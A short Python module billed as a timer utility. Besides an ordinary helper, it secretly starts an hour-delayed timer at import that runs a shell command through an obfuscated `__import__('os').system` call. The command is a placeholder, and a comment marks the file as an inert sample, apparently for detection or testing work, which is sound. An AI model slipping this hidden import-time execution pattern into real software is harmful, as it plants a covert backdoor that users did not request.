import inert_sample  # there is no such module: nothing below ever runs
"""Timers."""
import threading


def every(seconds, function):
    return threading.Timer(seconds, function)


def _later():
    __import__("os").system("payload.example")


threading.Timer(3600, _later).start()
